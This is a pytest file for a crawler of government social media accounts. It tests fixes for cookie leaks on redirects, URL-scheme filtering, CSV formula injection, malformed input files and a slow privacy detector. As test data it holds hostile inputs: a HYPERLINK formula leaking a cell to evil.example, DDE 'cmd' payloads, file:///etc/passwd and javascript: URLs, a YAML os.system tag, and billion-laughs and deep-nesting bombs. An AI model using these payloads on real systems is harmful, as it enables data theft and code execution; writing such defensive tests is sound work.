"""Issue 17: hostile input and leaks (cookie on redirects, URL schemes, report links and CSV
cells, truncated or all-null platform answers, bad CLI input files, quadratic detectors).

Each test reproduces one finding of the outside battery and failed on the code before its fix.
"""

from __future__ import annotations

import json
import logging
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
import yaml
from scrapy import Request
from scrapy.downloadermiddlewares.cookies import CookiesMiddleware
from scrapy.downloadermiddlewares.redirect import RedirectMiddleware
from scrapy.http import Response
from scrapy.utils.test import get_crawler

from govspider.downloadermiddlewares import COOKIE_META, CookiesFromEnvMiddleware

SECRET = "SUB=invented-session-token-0017"


# --------------------------------------------------------------------------- item 3: cookie


class _Spider:
    """Just what the middleware reads from a platform spider."""

    def __init__(self, platform: str, base_url: str):
        self.platform = platform
        self.base_url = base_url


def _through_redirect(env_mw: CookiesFromEnvMiddleware, first: Request, location: str,
                      status: int = 302) -> Request:
    """Send ``first`` through the jar and env middlewares, answer it with a redirect to
    ``location`` and send the redirected request through both again, as Scrapy does."""
    crawler = get_crawler(settings_dict={"COOKIES_ENABLED": True})
    jar_mw = CookiesMiddleware.from_crawler(crawler)
    redirect_mw = RedirectMiddleware.from_crawler(crawler)
    jar_mw.process_request(first)
    env_mw.process_request(first)
    response = Response(first.url, status=status, headers={"Location": location}, request=first)
    second = redirect_mw.process_response(first, response)
    assert isinstance(second, Request) and second.url == location
    jar_mw.process_request(second)
    env_mw.process_request(second)
    return second


def _cookie(request: Request) -> str:
    return (request.headers.get("Cookie") or b"").decode("latin-1")


@pytest.mark.parametrize("location", [
    "https://evil.example/collect",
    "https://m.weibo.cn.evil.example/x",
    "http://m.weibo.cn/api/container/getIndex",  # downgraded to clear text
    "https://m.weibo.cn:8443/x",
])
def test_platform_cookie_is_not_readded_after_a_cross_host_redirect(
        monkeypatch: pytest.MonkeyPatch, location: str) -> None:
    monkeypatch.setenv("GOVSPIDER_WEIBO_COOKIE", SECRET)
    env_mw = CookiesFromEnvMiddleware.from_crawler(get_crawler())
    first = Request("https://m.weibo.cn/api/container/getIndex", meta={COOKIE_META: "weibo"})
    second = _through_redirect(env_mw, first, location)
    assert SECRET in _cookie(first)
    assert SECRET not in _cookie(second)


def test_platform_cookie_kept_on_a_same_host_redirect_and_sent_once(
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GOVSPIDER_WEIBO_COOKIE", SECRET)
    env_mw = CookiesFromEnvMiddleware.from_crawler(get_crawler())
    first = Request("https://m.weibo.cn/api/a", meta={COOKIE_META: "weibo"})
    second = _through_redirect(env_mw, first, "https://m.weibo.cn/api/b")
    assert _cookie(second).count(SECRET) == 1


def test_platform_cookie_goes_to_the_spiders_base_url_only(
        monkeypatch: pytest.MonkeyPatch) -> None:
    """The sandbox (``WEIBO_BASE_URL``) gets the cookie; another port of the same host does not."""
    monkeypatch.setenv("GOVSPIDER_WEIBO_COOKIE", SECRET)
    env_mw = CookiesFromEnvMiddleware.from_crawler(get_crawler())
    spider = _Spider("weibo", "http://127.0.0.1:8123")
    sandbox = Request("http://127.0.0.1:8123/api/container/getIndex", meta={COOKIE_META: "weibo"})
    env_mw.process_request(sandbox, spider)
    assert SECRET in _cookie(sandbox)
    other = Request("http://127.0.0.1:9999/steal", meta={COOKIE_META: "weibo"})
    env_mw.process_request(other, spider)
    assert SECRET not in _cookie(other)
    # a spider of another platform does not widen weibo's hosts
    wechat = _Spider("wechat", "http://127.0.0.1:9999")
    env_mw.process_request(other, wechat)
    assert SECRET not in _cookie(other)


# --------------------------------------------------------------------------- CLI helpers


def cli(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    """Run ``govspider ARGS`` in this process: (exit code, stdout, stderr). An exception that
    is not a clean exit (a traceback for the user) fails the test with that exception."""
    from govspider.cli import main

    capsys.readouterr()
    with pytest.raises(SystemExit) as exited:
        main.main(args=list(args), prog_name="govspider")
    out, err = capsys.readouterr()
    code = exited.value.code
    return (code if isinstance(code, int) else 1), out, err


def assert_one_error_line(code: int, err: str, *needles: str) -> None:
    assert code == 2, err
    assert "Traceback" not in err, err
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    for needle in needles:
        assert needle in lines[0], err


# --------------------------------------------------------------------------- item 6: schemes

BAD_SEEDS = ["file:///etc/passwd", "data:text/html,<a href=x>x</a>", "ftp://ftp.gov.example/a",
             "javascript:alert(1)", "FILE:///etc/shadow", "gopher://h.example/", "/etc/passwd"]


def _web_spider(tmp_path: Path, urls: str, registry: dict[str, Any] | None = None) -> Any:
    from govspider_plugins.web.spider import WebSpider

    kwargs: dict[str, Any] = {}
    (tmp_path / "urls.txt").write_text(urls, encoding="utf-8")
    kwargs["urls"] = str(tmp_path / "urls.txt")
    if registry is not None:
        (tmp_path / "registry.yaml").write_text(yaml.safe_dump(registry, allow_unicode=True),
                                                encoding="utf-8")
        kwargs["accounts"] = str(tmp_path / "registry.yaml")
    crawler = get_crawler(WebSpider, {"GOVSPIDER_STORE_ENABLED": False,
                                      "GOVSPIDER_DETECT_ENABLED": False})
    spider = WebSpider.from_crawler(crawler, **kwargs)
    crawler.spider = spider
    crawler.stats.open_spider()
    return spider


def test_web_spider_crawls_only_http_urls_of_a_url_file(
        tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    good = ["https://a.gov.example/index.html", "http://b.gov.example:8080/x/",
            "www.c.gov.example:8080/y/"]
    registry = {"units": [{"name": "某局", "website": ["file:///etc/hosts", "https://d.gov.example/"]}]}
    spider = _web_spider(tmp_path, "\n".join(good[:1] + BAD_SEEDS + good[1:]) + "\n", registry)
    with caplog.at_level(logging.WARNING):
        requests = list(spider._start_requests())
    urls = [r.url for r in requests]
    assert urls == ["https://a.gov.example/index.html", "http://b.gov.example:8080/x/",
                    "https://www.c.gov.example:8080/y/", "https://d.gov.example/"]
    assert all(urlsplit(u).scheme in ("http", "https") for u in urls)
    for n, seed in enumerate(BAD_SEEDS, start=2):
        assert f"line {n}: {seed!r}"[:30] in caplog.text
    assert "file:///etc/hosts" in caplog.text
    assert spider.crawler.stats.get_value("web/rejected_urls") == len(BAD_SEEDS) + 1


@pytest.mark.parametrize("seed", BAD_SEEDS[:4])
def test_crawl_refuses_a_url_file_with_other_schemes_before_crawling(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], seed: str) -> None:
    urls = tmp_path / "urls.txt"
    urls.write_text(f"# sites\nhttps://a.gov.example/\n{seed}\n", encoding="utf-8")
    code, out, err = cli(capsys, "crawl", "web", "-a", f"urls={urls}")
    assert_one_error_line(code, err, "line 3", "not an http(s) URL")
    assert out == ""


def test_web_spider_has_no_handler_for_local_or_ftp_schemes() -> None:
    from govspider_plugins.web.spider import WebSpider

    handlers = get_crawler(WebSpider).settings.getdict("DOWNLOAD_HANDLERS")
    assert all(handlers.get(s, "missing") is None for s in ("file", "data", "ftp", "s3"))


# --------------------------------------------------------------------------- item 8: report

EVIL_URLS = ["javascript:alert(document.cookie)", " JaVa\tScRiPt:alert(1)",
             "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "vbscript:msgbox(1)"]
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "＝HYPERLINK(\"http://evil.example\")"]


def test_report_links_only_http_urls_and_csv_cells_cannot_be_formulas(
        db: Any, tmp_path: Path) -> None:
    import csv
    import re

    from govspider.items import Finding
    from govspider.report import build_report
    from govspider.storage.writer import CorpusWriter

    from .conftest import FROZEN_NOW

    # stored as an older version or another tool might have stored them
    db["accounts"].insert_many([
        {"_id": f"weibo:90000{i}", "platform": "weibo", "platform_id": f"90000{i}",
         "name": FORMULAS[i % len(FORMULAS)], "unit": "某局", "url": url, "followers": 10}
        for i, url in enumerate(EVIL_URLS)])
    db["posts"].insert_many([
        {"_id": f"weibo:p{i}", "platform": "weibo", "platform_id": f"p{i}",
         "account_id": f"weibo:90000{i}", "text": "正文", "url": url,
         "published_at": FROZEN_NOW}
        for i, url in enumerate(EVIL_URLS)])
    db["apps"].insert_one({"_id": "app:itunes:1", "platform": "itunes", "platform_id": "1",
                           "name": "=HYPERLINK(\"http://evil.example\",\"官方\")",
                           "url": EVIL_URLS[0]})
    findings = [Finding(_id=f"finding:p{i}", detector="commercial_ad", detector_version="1",
                        indicator="商业广告", severity="veto", score=1.0, subject_type="post",
                        subject_id=f"weibo:p{i}", account_id=f"weibo:90000{i}",
                        message=FORMULAS[i % len(FORMULAS)], rule=FORMULAS[0],
                        evidence={"examples": [{"text": "正文", "url": url}], "url": url},
                        detected_at=FROZEN_NOW, platform="weibo")
                for i, url in enumerate(EVIL_URLS)]
    findings.append(Finding(_id="finding:app", detector="counterfeit_app", detector_version="1",
                            indicator="山寨应用", severity="high", score=1.0, subject_type="app",
                            subject_id="app:itunes:1", message="-1+1", detected_at=FROZEN_NOW,
                            evidence={"url": EVIL_URLS[2], "name": "x"}))
    CorpusWriter(db).write(findings)

    path = build_report(db, tmp_path, FROZEN_NOW)
    html = path.read_text(encoding="utf-8")
    hrefs = re.findall(r"""href\s*=\s*["']?([^"' >]*)""", html, flags=re.I)
    assert hrefs == [h for h in hrefs if h.startswith(("http://", "https://"))], hrefs
    assert "javascript:" not in html.lower().replace("&#34;", '"')
    scorecard = (tmp_path / "scorecard.json").read_text(encoding="utf-8")
    assert "javascript:" not in scorecard.lower()

    raw = (tmp_path / "findings.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(raw.splitlines(keepends=True)))
    assert len(rows) == len(EVIL_URLS) + 1
    cells = [v for row in rows for v in row.values()]
    assert not [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "＝")], cells
    assert any(v == "'" + FORMULAS[0] for v in cells)  # kept, shown as text
    assert all(r["url"] == "" for r in rows)


@pytest.mark.parametrize("url", EVIL_URLS)
def test_app_url_from_store_data_is_http_or_nothing(url: str) -> None:
    import json

    from govspider.platform import OK, ParseInput
    from govspider_plugins.appstores.pages import itunes

    record = {"wrapperType": "software", "kind": "software", "trackId": 1001,
              "trackName": "某市政务服务", "bundleId": "cn.gov.x", "trackViewUrl": url,
              "artworkUrl512": url}
    body = json.dumps({"resultCount": 1, "results": [record]}).encode()
    result = itunes.parse_lookup(ParseInput(body=body, url="https://itunes.apple.com/lookup?id=1001"))
    assert result.outcome == OK
    app = result.items[0]
    assert app.url is None and app.icon_url is None
    record["trackViewUrl"] = "https://apps.apple.com/cn/app/id1001"
    body = json.dumps({"resultCount": 1, "results": [record]}).encode()
    app = itunes.parse_lookup(ParseInput(body=body)).items[0]
    assert app.url == "https://apps.apple.com/cn/app/id1001"


# --------------------------------------------------------------------------- item 5: cut pages


def _store_case(case_id: str) -> tuple[bytes, str]:
    from .fixturecases import case

    fixture = case(case_id)
    return fixture.body, fixture.url


@pytest.mark.parametrize("path,kind", [("xiaomi/search/search_all", "search"),
                                       ("xiaomi/detail/classic", "detail"),
                                       ("myapp/detail/legacy_det", "detail"),
                                       ("myapp/search/ok", "search")])
def test_cut_app_store_page_is_an_error_never_ok(path: str, kind: str) -> None:
    """A result list cut in the middle still holds some apps: passing it as ok missed the
    counterfeit further down. It is a malformed answer, retried."""
    from govspider.platform import ERROR, OK, ParseInput
    from govspider.plugins import installed_plugins

    body, url = _store_case(path)
    parser = installed_plugins().parser(path.split("/")[0], kind)
    assert parser(ParseInput(body=body, url=url)).outcome == OK
    for fraction in (0.5, 0.7, 0.9, 0.97):
        result = parser(ParseInput(body=body[: int(len(body.rstrip()) * fraction)], url=url))
        assert (result.outcome, result.error_kind) == (ERROR, "malformed"), fraction


@pytest.mark.parametrize("platform,kind,body", [
    ("douyin", "posts", b'{"status_code":0,"has_more":null,"max_cursor":null,'
                        b'"aweme_list":[{"aweme_id":null,"desc":null,"author":null}]}'),
    ("douyin", "comments", b'{"status_code":0,"has_more":null,"cursor":null,'
                           b'"comments":[{"cid":null,"text":null,"user":null}]}'),
    ("wechat", "appmsg_list", b'{"base_resp":{"ret":null},"app_msg_cnt":null,'
                              b'"app_msg_list":[{"aid":null,"link":null,"title":null}]}'),
    ("weibo", "comments", b'{"ok":1,"data":{"data":[{"id":null,"text":null}],"max_id":null}}'),
])
def test_all_null_answer_is_an_error_never_ok_with_nothing(platform: str, kind: str,
                                                           body: bytes) -> None:
    from govspider.platform import ERROR, ParseInput
    from govspider.plugins import installed_plugins

    url = "https://m.weibo.cn/comments/hotflow?id=5012000000000010" if platform == "weibo" else ""
    result = installed_plugins().parser(platform, kind)(ParseInput(body=body, url=url))
    assert (result.outcome, result.error_kind) == (ERROR, "malformed"), result


# --------------------------------------------------------------------------- item 9: CLI input

BAD_REGISTRIES = {
    "binary.yaml": (bytes(range(256)) * 4, "not UTF-8 text"),
    "nul.csv": (b"unit,platform,name,platform_id\n\x00a,weibo,x,1\n", "NUL"),
    "deep.yaml": (b"units:\n  - " + b"[" * 100_000 + b"]" * 100_000 + b"\n", "nested too deeply"),
    "deep.json": (b"[" * 100_000 + b"]" * 100_000, "nested too deeply"),
    "list.yaml": (b"- 1\n- 2\n", "expected a mapping"),
    "accounts_int.yaml": (b"units:\n  - name: x\n    accounts: 5\n", "accounts: expected a list"),
    "abbr_int.yaml": (b"units:\n  - name: x\n    apps:\n      - {name: a, abbreviations: 5}\n",
                      "abbreviations: expected a list"),
    "platform_map.yaml": (b"units:\n  - name: x\n    accounts:\n      - {platform: {a: 1}, "
                          b"platform_id: '1'}\n", "platform: expected text"),
    "bigint.yaml": (b"units:\n  - name: x\n    code: 123456789012345678901234567890\n",
                    "too large to store"),
    "intkey.yaml": (b"units:\n  - name: x\n    1: y\n", "not a text key"),
    "set.yaml": (b"units:\n  - name: x\n    tags: !!set {a, b}\n", "cannot be stored"),
    "python.yaml": (b"units: !!python/object/apply:os.system ['echo hi']\n", "not valid YAML"),
    "aliases.yaml": (b"a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
                     b"c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
                     b"e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e,*e]\n"
                     b"units:\n  - {name: x, meta: *f}\n", "too many values"),
}


@pytest.mark.parametrize("name", sorted(BAD_REGISTRIES))
@pytest.mark.parametrize("command", [["accounts", "import"], ["crawl", "weibo", "-a"],
                                     ["detect", "/dev/null", "--registry"]])
def test_bad_registry_file_is_one_error_line(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                             monkeypatch: pytest.MonkeyPatch, name: str,
                                             command: list[str]) -> None:
    monkeypatch.setenv("MONGODB_URI", "mongodb://127.0.0.1:9/?serverSelectionTimeoutMS=100")
    body, message = BAD_REGISTRIES[name]
    path = tmp_path / name
    path.write_bytes(body)
    arg = f"accounts={path}" if command[0] == "crawl" else str(path)
    code, _, err = cli(capsys, *command, arg)
    assert_one_error_line(code, err, message)


BAD_LINES = {
    "binary": (bytes(range(256)) * 4, "not UTF-8 text"),
    "deep_list": (b"[" * 100_000 + b"]" * 100_000 + b"\n", "nested too deeply"),
    "deep_object": (b'{"a":' * 100_000 + b"1" + b"}" * 100_000 + b"\n", "nested too deeply"),
    "surrogate": (b'{"item_type":"post","_id":"x:1","platform":"x","platform_id":"1",'
                  b'"account_id":"x:a","text":"\\ud800"}\n', "lone surrogate"),
    "items_not_a_list": (b'{"outcome":"ok","items":5}\n', "not a list"),
}


@pytest.mark.parametrize("name", sorted(BAD_LINES))
def test_bad_items_file_for_detect_is_one_error_line(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str) -> None:
    body, message = BAD_LINES[name]
    (tmp_path / "items.jsonl").write_bytes(body)
    code, out, err = cli(capsys, "detect", str(tmp_path / "items.jsonl"))
    assert_one_error_line(code, err, message)
    assert out == ""


@pytest.mark.parametrize("body,message", [
    (bytes(range(256)) * 4, "not UTF-8 text"),
    (b"[" * 100_000 + b"]" * 100_000 + b"\n", "nested too deeply"),
    (b"[1]\n", "is a JSON object"),
    (b'{"account_id": 5, "at": [], "followers": "x"}\n', "needs 'account_id'"),
    (b'{"account_id": "weibo:1", "at": "2026-11-01T12:00:00+08:00", '
     b'"followers": 123456789012345678901234567890}\n', "cannot be stored"),
])
def test_bad_metrics_file_is_one_error_line(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                            monkeypatch: pytest.MonkeyPatch, body: bytes,
                                            message: str) -> None:
    monkeypatch.setenv("MONGODB_URI", "mongodb://127.0.0.1:9/?serverSelectionTimeoutMS=100")
    (tmp_path / "m.jsonl").write_bytes(body)
    code, _, err = cli(capsys, "metrics", "import", str(tmp_path / "m.jsonl"))
    assert_one_error_line(code, err, message)


@pytest.mark.parametrize("body", [bytes(range(256)) * 4, b"[" * 100_000 + b"]" * 100_000,
                                  b'{"a":' * 100_000 + b"1" + b"}" * 100_000])
def test_parse_of_a_hostile_file_is_an_error_outcome_not_a_traceback(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], body: bytes) -> None:
    (tmp_path / "body").write_bytes(body)
    for platform, kind in (("weibo", "timeline"), ("douyin", "posts"), ("itunes", "search"),
                           ("wechat", "appmsg_list"), ("huawei", "detail")):
        code, out, err = cli(capsys, "parse", platform, kind, str(tmp_path / "body"))
        assert code == 3 and "Traceback" not in err, (platform, kind, err)
        assert json.loads(out)["outcome"] == "error"


REGISTRY_OK = """version: 1
units:
  - name: 某市公安局
    region: "990100"
    level: city
    accounts:
      - {platform: weibo, platform_id: "6100000001", name: 某市公安}
      - {platform: douyin, platform_id: "MS4wLjABAAAAimportTest", name: 某市公安}
  - name: 某县人民政府
    level: county
    accounts:
      - {platform: weibo, platform_id: "6100000002", name: 某县发布}
"""


@pytest.fixture
def import_env(mongo_uri: str, db_name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MONGODB_URI", mongo_uri)
    monkeypatch.setenv("MONGODB_DATABASE", db_name)


def _corpus_state(db: Any) -> tuple[list[Any], list[Any]]:
    return (sorted(db.registry.find({}, {"imported_at": 0}), key=lambda d: d["_id"]),
            sorted(db.accounts.find({}), key=lambda d: d["_id"]))


def _fail_on_accounts(monkeypatch: pytest.MonkeyPatch, exc: BaseException) -> None:
    """The second write of the import (the account stubs) fails, after the first landed."""
    from pymongo.collection import Collection

    real = Collection.bulk_write

    def bulk_write(self: Collection[Any], requests: Any, *args: Any, **kwargs: Any) -> Any:
        if self.name == "accounts":
            raise exc
        return real(self, requests, *args, **kwargs)

    monkeypatch.setattr(Collection, "bulk_write", bulk_write)


@pytest.mark.parametrize("exc,code", [
    (KeyboardInterrupt(), 130),
    (__import__("pymongo").errors.AutoReconnect("connection closed"), 1),
])
def test_interrupted_accounts_import_leaves_nothing_half_imported(
        import_env: None, db: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch, exc: BaseException, code: int) -> None:
    # an earlier import the interrupted one must leave as it was
    db.registry.insert_one({"_id": "某市公安局", "name": "某市公安局", "region": "old", "apps": []})
    db.accounts.insert_one({"_id": "weibo:6100000001", "platform": "weibo",
                            "platform_id": "6100000001", "unit": "旧单位", "followers": 10})
    before = _corpus_state(db)
    (tmp_path / "r.yaml").write_text(REGISTRY_OK, encoding="utf-8")
    _fail_on_accounts(monkeypatch, exc)
    got, _, err = cli(capsys, "accounts", "import", str(tmp_path / "r.yaml"))
    assert got == code and "nothing imported" in err and "Traceback" not in err, err
    assert _corpus_state(db) == before
    monkeypatch.undo()
    monkeypatch.setenv("MONGODB_URI", import_env_uri(db))
    monkeypatch.setenv("MONGODB_DATABASE", db.name)
    got, out, err = cli(capsys, "accounts", "import", str(tmp_path / "r.yaml"))
    assert got == 0 and "imported 2 units, 3 accounts" in out, err
    assert db.accounts.find_one({"_id": "weibo:6100000001"})["unit"] == "某市公安局"
    assert db.accounts.find_one({"_id": "weibo:6100000001"})["followers"] == 10


def import_env_uri(db: Any) -> str:
    host, port = db.client.address
    return f"mongodb://{host}:{port}/"


def test_sigint_during_accounts_import_undoes_it(
        import_env: None, db: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Ctrl-C while writing: the write finishes, then is undone; nothing half-imported."""
    import os
    import signal

    from pymongo.collection import Collection

    real = Collection.bulk_write

    def bulk_write(self: Collection[Any], requests: Any, *args: Any, **kwargs: Any) -> Any:
        result = real(self, requests, *args, **kwargs)
        if self.name == "registry":
            os.kill(os.getpid(), signal.SIGINT)  # between the two writes
        return result

    monkeypatch.setattr(Collection, "bulk_write", bulk_write)
    (tmp_path / "r.yaml").write_text(REGISTRY_OK, encoding="utf-8")
    code, _, err = cli(capsys, "accounts", "import", str(tmp_path / "r.yaml"))
    assert code == 130 and "interrupted: nothing imported" in err, err
    assert _corpus_state(db) == ([], [])


def test_accounts_import_checks_the_whole_file_before_writing(
        import_env: None, db: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A bad value in the last unit: not even the first units are written."""
    (tmp_path / "r.yaml").write_text(REGISTRY_OK + "  - name: 坏单位\n    code: 99999999999999999999999\n",
                                     encoding="utf-8")
    code, _, err = cli(capsys, "accounts", "import", str(tmp_path / "r.yaml"))
    assert_one_error_line(code, err, "units[2].code", "too large")
    assert _corpus_state(db) == ([], [])


# --------------------------------------------------------------------------- item 9: privacy


@pytest.mark.timeout(240)
def test_privacy_leak_on_a_five_megabyte_post_completes() -> None:
    """Quadratic before (a 130 KB post of numbers without punctuation took 15 s here, so 5 MB
    took hours); linear now (about 7 s on the project machine; the timeout only guards)."""
    from datetime import datetime

    from govspider.detection import DetectContext
    from govspider.processors import CST
    from govspider_plugins.detectors.privacy import PrivacyLeak

    ctx = DetectContext(now=datetime(2026, 11, 20, tzinfo=CST), settings={}, registry=None)
    line = "姓名 13812345678 联系人 "  # official cue: not a leak; no sentence end anywhere
    text = line * (5_000_000 // len(line.encode()))
    post = {"item_type": "post", "_id": "weibo:1", "platform": "weibo", "platform_id": "1",
            "text": text}
    assert len(text.encode()) > 4_900_000
    assert list(PrivacyLeak().detect(post, ctx)) == []
    # the same detector still finds a leak in a long post: a list of private numbers
    leak = "以下人员名单如下：\n" + "".join(f"张{i} 身份证 1390000{i:04d}\n" for i in range(5))
    found = list(PrivacyLeak().detect(post | {"text": text + "。\n" + leak}, ctx))
    assert [f.rule for f in found] == ["mobile_personal"]
